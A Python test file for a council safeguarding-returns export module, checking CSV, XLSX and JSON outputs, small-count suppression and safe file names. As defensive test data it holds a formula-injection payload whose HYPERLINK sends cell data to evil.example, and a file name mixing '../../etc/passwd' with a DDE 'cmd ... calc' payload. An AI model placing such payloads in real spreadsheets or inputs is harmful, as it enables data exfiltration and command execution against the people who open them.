"""Exports: CSV round trips, SAC labels, XLSX sheets, JSON, inert formulas and safe names."""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from feedback_app.returns.export import (
    escape_cell,
    export_filename,
    to_json,
    to_long_csv,
    to_sac_csv,
    to_xlsx,
)
from feedback_app.returns.model import NOT_COLLECTED, PARTIAL, Return
from feedback_app.vocabulary import SAC_CATEGORIES
from tests.unit.blocks import all_only_block, split_block

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def demo_return(organisation: str = "Demo Council") -> Return:
    """A small council's return, built by hand: small counts everywhere, one block not collected."""
    asked = {
        "asked_expressed": (12, 9),
        "asked_none_expressed": (6, 2),
        "not_asked": (3, 8),
        "dont_know": (1, 0),
        "not_recorded": (7, 4),
    }
    achieved = {"fully": (5, 4), "partially": (4, 3), "not_achieved": (2, 1), "not_recorded": (1, 1)}
    held = sum(a + r for a, r in asked.values())
    about = {
        "held": held,
        "held_enquiry_lead": 30,
        "held_independent": held - 30,
        "declined": 6,
        "withdrawn": 2,
        "median_days_to_conversation": 12.5,
        "agreement_kappa": 0.61,
    }
    blocks = (
        split_block("asked_outcomes", "sg4a_asked", asked),
        split_block("outcomes_achieved", "sg4a_achieved", achieved, PARTIAL),
        all_only_block(
            "risk",
            "sg2e_risk",
            {"risk_removed": 11, "risk_reduced": 9, "risk_remained": 3, "not_recorded": 0},
        ),
        all_only_block(
            "capacity", "sg3a_capacity", {"yes": 0, "no": 0, "dont_know": 0, "not_recorded": 0}, NOT_COLLECTED
        ),
        split_block(
            "experience",
            "feel_safer",
            {
                "safer": (15, 7),
                "a_bit_safer": (8, 8),
                "no_safer": (4, 2),
                "less_safe": (2, 1),
                "unclear": (0, 5),
                "not_recorded": (0, 1),
            },
        ),
        split_block("experience", "a_measure_with_a_name_well_over_thirty_one_characters", {"yes": (29, 23)}),
        all_only_block("about", "conversations", {k: v for k, v in about.items() if isinstance(v, int)}),
    )
    return Return(organisation, "2025-26", blocks, about)


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_publishable(value: str, where: str) -> None:
    if value in ("[c]", "[x]"):
        return
    assert value.isdigit(), f"{where}: {value!r} is neither a count nor a symbol"
    assert int(value) >= 5 and int(value) % 5 == 0, (
        f"{where}: {value} is a small or unrounded count in a publication"
    )


def xlsx_cells(data: bytes):
    book = openpyxl.load_workbook(io.BytesIO(data))
    return book, [
        (sheet.title, cell)
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


# Long CSV ----------------------------------------------------------------------------------------


def test_long_csv_round_trips_with_real_counts_for_coordinators():
    ret = demo_return()
    table = list(csv.DictReader(io.StringIO(to_long_csv(ret, for_publication=False))))
    assert list(table[0]) == [
        "period",
        "organisation",
        "block",
        "measure",
        "category",
        "respondent",
        "count",
        "shown_value",
    ]
    by_key = {(r["block"], r["measure"], r["category"], r["respondent"]): r for r in table}
    for block in ret.blocks:
        for cell in block.cells:
            row = by_key[(block.id, block.measure, cell.category, cell.respondent)]
            expected = "[x]" if block.status == NOT_COLLECTED else str(cell.count)
            assert (row["shown_value"], row["period"], row["organisation"]) == (
                expected,
                "2025-26",
                "Demo Council",
            )
    assert by_key[("asked_outcomes", "sg4a_asked", "total", "adult")]["count"] == "29"
    assert by_key[("capacity", "sg3a_capacity", "yes", "all")]["count"] == ""  # not collected is not zero


def test_long_csv_for_publication_carries_no_real_counts():
    table = list(csv.DictReader(io.StringIO(to_long_csv(demo_return(), for_publication=True))))
    assert {r["count"] for r in table} == {""}
    for r in table:
        assert_publishable(r["shown_value"], f"{r['block']}/{r['measure']}/{r['category']}/{r['respondent']}")
    shown = {(r["block"], r["category"], r["respondent"]): r["shown_value"] for r in table}
    assert shown[("asked_outcomes", "asked_expressed", "all")] == "20"  # 21, rounded
    assert shown[("asked_outcomes", "dont_know", "all")] == "[c]"
    assert shown[("capacity", "total", "all")] == "[x]"


# SAC CSV -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("for_publication", [True, False])
def test_sac_csv_has_a_section_per_table_with_the_exact_labels_in_order(for_publication):
    table = rows(to_sac_csv(demo_return(), for_publication))
    labels = [r[0] for r in table if len(r) == 3]
    for measure in ("sg4a_asked", "sg4a_achieved", "sg2e_risk"):
        expected = list(SAC_CATEGORIES[measure].values())
        start = labels.index(expected[0])
        assert labels[start : start + len(expected)] == expected
    assert ["Category", "Count", "Percentage of table total"] in table
    assert sum(1 for r in table if len(r) == 1 and r[0].startswith(("SG4a", "SG2e"))) == 3


def test_sac_csv_percentages_come_from_unrounded_counts():
    table = {r[0]: r[1:] for r in rows(to_sac_csv(demo_return(), for_publication=True)) if len(r) == 3}
    assert table["Risk removed"] == ["10", "47.8"]  # 11 of 23, shown as 10
    assert table["Risk remained"] == ["[c]", "[c]"]
    coordinators = {
        r[0]: r[1:] for r in rows(to_sac_csv(demo_return(), for_publication=False)) if len(r) == 3
    }
    assert coordinators["Risk removed"] == ["11", "47.8"]


# XLSX --------------------------------------------------------------------------------------------


def test_xlsx_has_a_sheet_per_block_with_safe_unique_names_and_notes():
    book, _ = xlsx_cells(to_xlsx(demo_return(), for_publication=True))
    names = book.sheetnames
    assert names[0] == "Notes"
    assert len(names) == 1 + len(demo_return().blocks)
    assert len({n.lower() for n in names}) == len(names)
    assert all(len(n) <= 31 for n in names)
    assert "feel_safer" in names
    notes = " ".join(str(c.value) for row in book["Notes"].iter_rows() for c in row if c.value)
    for needed in (
        "[c]",
        "[x]",
        "nearest 5",
        "For publication",
        "2025-26",
        "Partial blocks",
        "outcomes_achieved",
    ):
        assert needed in notes, f"the Notes sheet does not mention {needed!r}"


def test_xlsx_numbers_are_numbers_only_for_coordinators():
    _, published = xlsx_cells(to_xlsx(demo_return(), for_publication=True))
    assert all(isinstance(cell.value, str) for _, cell in published)
    _, coordinators = xlsx_cells(to_xlsx(demo_return(), for_publication=False))
    numbers = [
        cell.value
        for title, cell in coordinators
        if title == "asked_outcomes" and isinstance(cell.value, int)
    ]
    assert 21 in numbers and 4 in numbers


def test_xlsx_for_publication_has_no_small_or_unrounded_count():
    _, published = xlsx_cells(to_xlsx(demo_return(), for_publication=True))
    for title, cell in published:
        header = cell.parent.cell(row=8, column=cell.column).value if cell.row > 8 else None
        if title != "Notes" and header and header.endswith(": count"):
            assert_publishable(cell.value, f"{title}!{cell.coordinate}")


# Hostile text ------------------------------------------------------------------------------------


@pytest.mark.parametrize("for_publication", [True, False])
def test_a_formula_as_organisation_name_comes_out_inert_in_csv_and_xlsx(for_publication):
    ret = demo_return(HOSTILE)
    for text in (to_long_csv(ret, for_publication), to_sac_csv(ret, for_publication)):
        fields = [field for row in rows(text) for field in row]
        assert "'" + HOSTILE in fields
        assert not [f for f in fields if f.startswith(FORMULA_STARTS)]
    _, cells = xlsx_cells(to_xlsx(ret, for_publication))
    assert not [c for _, c in cells if c.data_type == "f" or str(c.value).startswith(FORMULA_STARTS)]
    assert any(c.value == "'" + HOSTILE for _, c in cells)
    assert json.loads(to_json(ret, for_publication))["organisation"] == HOSTILE  # JSON is data, not a sheet


@given(st.text())
def test_escaped_text_never_starts_a_formula_and_is_otherwise_untouched(value):
    escaped = escape_cell(value)
    assert not escaped.startswith(FORMULA_STARTS)
    assert escaped == value or escaped == "'" + value


@settings(max_examples=25, deadline=None)
@given(st.text(max_size=40))
def test_any_organisation_name_makes_a_workbook_that_opens(name):
    book, cells = xlsx_cells(to_xlsx(demo_return(name), for_publication=True))
    assert "Notes" in book.sheetnames
    assert not [c for _, c in cells if c.data_type == "f"]


# JSON and file names -----------------------------------------------------------------------------


def test_json_has_the_documented_structure():
    document = json.loads(to_json(demo_return(), for_publication=True))
    assert {"period", "organisation", "for_publication", "blocks", "about"} <= set(document)
    assert document["for_publication"] is True
    block = document["blocks"][0]
    assert {"id", "measure", "status", "cells", "totals"} <= set(block)
    assert set(block["cells"][0]) == {"category", "respondent", "value", "percentage"}
    for b in document["blocks"]:
        for entry in (*b["cells"], *b["totals"]):
            assert_publishable(entry["value"], f"{b['id']}/{b['measure']}")
    assert document["about"]["median_days_to_conversation"] == "12.5"
    coordinators = json.loads(to_json(demo_return(), for_publication=False))
    assert coordinators["blocks"][0]["cells"][0]["count"] == 21


def test_export_names_are_chosen_by_the_server():
    assert (
        export_filename("Demo Council", "2025-26", "csv", True)
        == "msp-return-demo-council-2025-26-publication.csv"
    )
    assert export_filename("Demo Council", "2025-26 Q1", "xlsx", False) == (
        "msp-return-demo-council-2025-26-q1-not-for-publication.xlsx"
    )
    hostile = export_filename("../../etc/passwd\r\n=cmd|' /C calc'!A0", "2025-26", "sac-csv", True)
    assert hostile == "msp-return-etc-passwd-cmd-c-calc-a0-2025-26-publication-sac.csv"
    with pytest.raises(ValueError):
        export_filename("Demo Council", "2025-26", "exe", True)


@given(st.text(), st.text(), st.sampled_from(["csv", "sac-csv", "xlsx", "json"]), st.booleans())
def test_export_names_only_ever_hold_safe_characters(organisation, period, fmt, for_publication):
    name = export_filename(organisation, period, fmt, for_publication)
    assert set(name) <= set("abcdefghijklmnopqrstuvwxyz0123456789-.")
    assert name.startswith("msp-return-") and ".." not in name
